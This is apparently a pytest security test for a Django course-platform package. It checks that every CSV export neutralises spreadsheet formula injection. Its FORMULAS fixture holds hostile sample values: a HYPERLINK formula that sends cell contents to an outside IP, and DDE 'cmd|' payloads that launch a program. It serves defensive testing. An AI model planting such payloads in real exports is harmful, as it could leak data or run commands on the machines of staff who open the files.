"""Spreadsheet formulas in exports: every CSV the project writes neutralises formula-shaped text.

* The source is searched (AST) for every ``csv.writer`` / ``csv.DictWriter``: only
  ``common/csv_export.py`` may call them; every module that writes CSV through it must have a feed
  below (``EXPORTS``), so a new export is not left untested.
* Each export is fed formula-shaped values (``=HYPERLINK``, ``+cmd|``, ``-2+3``, ``@SUM``, a
  leading tab or carriage return, full-width equals sign) through the handlers a learner, an author and
  a grader use, then produced the way staff get it; every cell of every row is parsed and none
  starts with a formula character, while the values are there (prefixed with ``'``).
"""

import ast
import csv
import io
import zipfile
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.utils import timezone

from kemenag_xblocks.common import csv_export
from tests.assignment import samples
from tests.security.matrix import export_name, reopen
from tests.security.support import LEARNER, STAFF, upload_file
from tests.support.quiz_tokens import tokenized

PACKAGES = [Path(__file__).resolve().parents[2] / name for name in ("kemenag_xblocks", "kemenag_theme", "demo")]
WRITER = Path(csv_export.__file__).resolve()

FORMULAS = {
    "title": '=HYPERLINK("http://198.51.100.7/?x="&A1,"Lihat")',
    "organizer": "+cmd|' /C calc'!A0",
    "feedback": "-2+3+cmd|' /C calc'!A0",
    "file": "@SUM(1+1)*cmd|' -C calc'!A0.pdf",  # no "/": a file name keeps its last path part
    "first_name": "=1+1",
    "last_name": "\t=2+2",
    "band": "\uff1d1+1",
    "prompt": "\r=3+3",
}


def csv_calls(path):
    """``(line, what)`` for each use of the csv module's writers in one source file."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    aliases, found = set(), []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            aliases |= {alias.asname or alias.name for alias in node.names if alias.name == "csv"}
        elif isinstance(node, ast.ImportFrom) and node.module == "csv":
            found += [(node.lineno, f"from csv import {a.name}") for a in node.names if "writer" in a.name.lower()]
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and isinstance(node.value, ast.Name)
            and node.value.id in aliases
            and node.attr in ("writer", "DictWriter")
        ):
            found.append((node.lineno, f"csv.{node.attr}"))
    return found


def users_of_the_writer(path):
    tree = ast.parse(path.read_text(encoding="utf-8"))
    return any(
        isinstance(node, ast.Attribute)
        and node.attr in ("writer", "dict_writer", "text")
        and isinstance(node.value, ast.Name)
        and node.value.id == "csv_export"
        for node in ast.walk(tree)
    )


def sources():
    return [path for root in PACKAGES for path in root.rglob("*.py") if "migrations" not in path.parts]


def module_of(path):
    root = PACKAGES[0].parent
    return ".".join(path.resolve().relative_to(root).with_suffix("").parts)


def test_no_csv_is_written_past_the_common_writer():
    bypass = {module_of(path): calls for path in sources() if path.resolve() != WRITER and (calls := csv_calls(path))}
    assert not bypass, f"CSV written without kemenag_xblocks.common.csv_export: {bypass}"
    assert csv_calls(WRITER), "the search finds the writer's own csv.writer (it can fail)"


def test_every_module_writing_csv_has_a_feed_here():
    writers = {module_of(path) for path in sources() if users_of_the_writer(path)}
    assert writers, "no module writes CSV: the search is broken"
    missing = sorted(writers - set(EXPORTS))
    assert not missing, f"modules writing CSV without a formula feed in this test: {missing}"


# ---- feeds: each produces the CSV texts of one module, with the formulas stored first -----------


@pytest.fixture
def formulas(world, settings, tmp_path):
    """The learner's name, training, file and the grader's feedback, the quiz's band and a prompt:
    each formula-shaped, stored through the blocks' handlers."""
    get_user_model().objects.filter(username=LEARNER).update(
        first_name=FORMULAS["first_name"], last_name=FORMULAS["last_name"]
    )
    from kemenag_xblocks.competency.models import LearnerProfile, TrainingKind

    # SIASN exports only complete records: the learner's PNS id and a kind of training with its ids.
    LearnerProfile.objects.update_or_create(
        user=get_user_model().objects.get(username=LEARNER),
        defaults={"employee_type": "pns", "nip": "198609262015051001", "pns_orang_id": "A5CF0A1B"},
    )
    kind = TrainingKind.objects.create(
        code="workshop", name="Workshop", siasn_jenis_diklat_id="4", siasn_jenis_kursus="Workshop"
    )
    competency = world.competency
    from tests.competency.conftest import send_enrollment

    # The platform's enrollment event makes the course's cohort (a view never writes).
    send_enrollment(get_user_model().objects.get(username=LEARNER), competency.block(LEARNER).course_key)
    reply = competency.call(
        LEARNER,
        "report_training",
        form={
            "title": FORMULAS["title"],
            "organizer": FORMULAS["organizer"],
            "jp": "6",
            "competency_type": "teknis",
            "completed_on": timezone.localdate().isoformat(),
            "certificate_number": "BDK-JKT/2026/0042",
            "training_kind": str(kind.pk),
            "evidence": upload_file("bukti.pdf", samples.pdf("bukti formula")),
        },
    )
    assert reply.status == 200, reply.content
    from kemenag_xblocks.competency.models import LedgerEntry

    for entry in LedgerEntry.objects.all():
        competency.call(STAFF, "decide_training", json_body={"entry": entry.pk, "approve": True})

    assignment = world.assignment
    reopen(world)
    uploaded = assignment.call(LEARNER, "upload", form={"file": upload_file(FORMULAS["file"], samples.pdf("f"))})
    assert uploaded.status == 200, uploaded.content
    assert assignment.call(LEARNER, "submit", json_body={"confirm": True}).status == 200
    graded = assignment.call(
        STAFF, "grade", form={"submission_id": world.submission_id, "score": "10", "feedback": FORMULAS["feedback"]}
    )
    assert graded.status == 200, graded.content

    quiz = world.quiz
    answers = tokenized({"kk1": 2}, LEARNER)  # the open attempt's tokens, as the browser names them
    assert quiz.call(LEARNER, "submit", json_body={"answers": answers}).status == 200
    bands = {
        "dimensions": [
            {"id": "kk", "name": "Komitmen Kebangsaan", "weight": "1"},
            {"id": "tol", "name": "Toleransi", "weight": "1"},
        ],
        "bands": [{"min": "0", "name": FORMULAS["band"]}],
    }
    assert quiz.call(STAFF, "save_dimensions", json_body=bands).status == 200
    assert quiz.call(LEARNER, "start_attempt", json_body={}).status == 200
    assert quiz.call(LEARNER, "submit", json_body={"answers": tokenized({"kk1": 4, "t1": "b"}, LEARNER)}).status == 200
    bank = (
        "id,dimension,type,reverse,prompt\n"
        f'kk1,kk,likert,,"{FORMULAS["prompt"]}"\nkk2,kk,likert,true,Soal dua\n'
        "t1,tol,likert,,Soal tiga\n"
    )
    imported = quiz.call(STAFF, "import_item_bank", json_body={"csv": bank})
    assert imported.json.get("imported"), imported.content
    world.tmp = tmp_path
    return world


def _command(name, world, **options):
    path = world.tmp / f"{name}.csv"
    call_command(name, output=str(path), stdout=io.StringIO(), **options)
    return path.read_text(encoding="utf-8")


def feed_siasn(world):
    return [_command("kemenag_export_siasn", world)]


def feed_compliance(world):
    return [_command("kemenag_compliance_report", world, learners=True), _command("kemenag_compliance_report", world)]


def feed_competency_export(world):
    reply = world.competency.call(STAFF, "export_csv", method="GET")
    assert reply.status == 200
    return [reply.content.decode("utf-8-sig")]


def feed_grades(world):
    reply = world.assignment.call(STAFF, "export_grades", method="GET")
    assert reply.status == 200
    return [reply.content.decode("utf-8-sig")]


def feed_manifest(world):
    token = world.assignment.call(STAFF, "download_all", json_body={}).json["token"]
    reply = world.assignment.call(STAFF, "download_archive", method="GET", query=f"token={token}")
    assert reply.status == 200, reply.content[:200]
    with zipfile.ZipFile(io.BytesIO(reply.content)) as archive:
        return [archive.read(name).decode("utf-8-sig") for name in archive.namelist() if name.endswith(".csv")]


def feed_quiz_export(world):
    reply = world.quiz.call(STAFF, "download_export", method="GET", suffix=export_name(world))
    assert reply.status == 200, reply.content[:200]
    return [reply.content.decode("utf-8-sig")]


def feed_item_bank(world):
    reply = world.quiz.call(STAFF, "export_item_bank", method="GET")
    assert reply.status == 200
    return [reply.content.decode("utf-8-sig")]


def feed_officer_exports(world):
    """An HR officer's SIASN and per-learner compliance exports of the learner's unit (Celery task)."""
    from django.core.files.storage import storages

    from kemenag_xblocks.competency import tasks
    from kemenag_xblocks.competency.models import HrOfficer, OfficerExport
    from kemenag_xblocks.conf import setting

    officer = HrOfficer.objects.select_related("user", "work_unit").get(user__username=STAFF)
    texts = []
    for kind in (OfficerExport.Kind.SIASN, OfficerExport.Kind.COMPLIANCE):
        export = OfficerExport.objects.create(user=officer.user, work_unit=officer.work_unit, kind=kind)
        tasks.start(export)
        export.refresh_from_db()
        assert export.state == OfficerExport.State.DONE, export.state
        with storages[setting("KEMENAG_STORAGE_ALIAS")].open(export.path) as handle:
            texts.append(handle.read().decode("utf-8-sig"))
    return texts


def feed_platform_reports(world):
    """The platform-wide SIASN report as the Celery producer writes it."""
    from kemenag_xblocks.common import platform_reports

    target = io.BytesIO()
    platform_reports.produce_siasn({"year": None}, target)
    return [target.getvalue().decode("utf-8-sig")]


def feed_reading_report(world):
    """The reading list's CSV: an item titled by its (harvested, hostile) source, a learner's name."""
    from types import SimpleNamespace

    from kemenag_xblocks.resources import report_csv

    items = [{"id": "a1", "title": FORMULAS["title"], "required": True}]
    row = SimpleNamespace(
        item_id="a1", username=FORMULAS["first_name"], anonymous_id="", opened=1, first_opened=None, read_at=None
    )
    return [b"".join(report_csv.lines(items, [row])).decode("utf-8-sig")]


# module writing CSV -> (feed, formulas that must reach its output)
EXPORTS = {
    "kemenag_xblocks.management.commands.kemenag_export_siasn": (feed_siasn, ("title", "organizer")),
    "kemenag_xblocks.management.commands.kemenag_compliance_report": (feed_compliance, ("first_name",)),
    "kemenag_xblocks.competency.export": (feed_competency_export, ("first_name",)),
    "kemenag_xblocks.assignment.grades_csv": (feed_grades, ("feedback",)),
    # The manifest's cells start with the learner's folder (``<username>/<file>``): fed, checked,
    # but no formula can reach a cell's start there.
    "kemenag_xblocks.assignment.archive": (feed_manifest, ()),
    "kemenag_xblocks.quiz.tasks": (feed_quiz_export, ("band",)),
    "kemenag_xblocks.quiz.itembank": (feed_item_bank, ("prompt",)),
    "kemenag_xblocks.competency.tasks": (feed_officer_exports, ("title", "organizer", "first_name")),
    "kemenag_xblocks.common.platform_reports": (feed_platform_reports, ("title", "organizer")),
    "kemenag_xblocks.resources.report_csv": (feed_reading_report, ("title", "first_name")),
}


@pytest.mark.parametrize("module", sorted(EXPORTS))
def test_formula_shaped_values_are_neutralised(formulas, module):
    feed, expected = EXPORTS[module]
    texts = feed(formulas)
    assert texts, f"{module} produced no CSV"
    cells = [cell for text in texts for row in csv.reader(io.StringIO(text)) for cell in row]
    live = [cell for cell in cells if cell.startswith(csv_export.FORMULA_STARTS)]
    assert not live, f"{module} wrote cells a spreadsheet runs: {live[:3]}"
    for key in expected:
        value = FORMULAS[key].strip()  # (an import may strip surrounding whitespace)
        assert any(value in cell and cell.startswith("'") for cell in cells), (
            f"{module}: the {key} value did not reach the CSV, the check proves nothing: {cells[:40]}"
        )


def test_neutralise_and_restore():
    for value in FORMULAS.values():
        assert csv_export.neutralise(value) == "'" + value
        assert csv_export.restore(csv_export.neutralise(value)) == value
    assert csv_export.neutralise(-5) == -5 and csv_export.neutralise(None) == ""
    assert csv_export.neutralise("Bimtek") == "Bimtek" and csv_export.restore("'Bimtek") == "'Bimtek"
